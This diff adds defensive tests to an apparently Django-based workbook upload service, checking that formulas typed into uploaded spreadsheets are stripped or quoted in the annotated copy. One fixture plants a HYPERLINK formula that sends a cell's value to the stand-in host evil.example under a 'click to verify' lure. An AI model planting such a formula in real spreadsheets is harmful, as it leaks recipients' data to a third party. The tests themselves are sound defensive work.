@@ -129,3 +129,38 @@ def test_the_marked_copy_drops_links_to_other_workbooks(client, clerk, beijing):
     archive = zipfile.ZipFile(io.BytesIO(marked))
     assert not [name for name in archive.namelist() if "externalLink" in name]
     assert not any(b"attacker.example" in archive.read(name) for name in archive.namelist())
+
+
+def test_the_marked_copy_gives_formulas_the_unit_typed_as_values_never_as_formulas(
+    client, clerk, beijing
+):
+    """A =HYPERLINK(…) typed in the unit's file survived into head office's download."""
+
+    def edit(workbook):
+        sheet = workbooks.form_sheet(workbook)
+        sheet["F2"] = '=HYPERLINK("http://evil.example/?"&D5,"点击核对")'
+        sheet["F3"] = "=1+1"
+
+    content = workbooks.fill(workbooks.change(workbooks.template(beijing), edit), {"A01": -1})
+    assert "<f>" in sheet_xml(content)
+    client.post(URL, {"file": workbooks.upload_file(content)})
+    upload = StatisticsUpload.objects.get()
+    marked = client.get(f"{URL}uploads/{upload.pk}/annotated.xlsx").content
+    xml = sheet_xml(marked)
+    assert "<f>" not in xml and "HYPERLINK" not in xml
+    sheet = workbooks.form_sheet(workbooks.open_xlsx(marked))
+    assert sheet["F2"].value is None and sheet["F3"].value is None  # never calculated
+
+
+def test_the_marked_copy_keeps_the_users_text_that_starts_like_a_formula_quoted(
+    client, clerk, beijing
+):
+    content = workbooks.fill(workbooks.template(beijing), {"A01": "=1+1", "A03": "@SUM(1)"})
+    client.post(URL, {"file": workbooks.upload_file(content)})
+    upload = StatisticsUpload.objects.get()
+    marked = client.get(f"{URL}uploads/{upload.pk}/annotated.xlsx").content
+    assert "<f>" not in sheet_xml(marked)
+    sheet = workbooks.form_sheet(workbooks.open_xlsx(marked))
+    for code, text in (("A03", "@SUM(1)"),):
+        cell = sheet[workbooks.value_cell(content, code)]
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
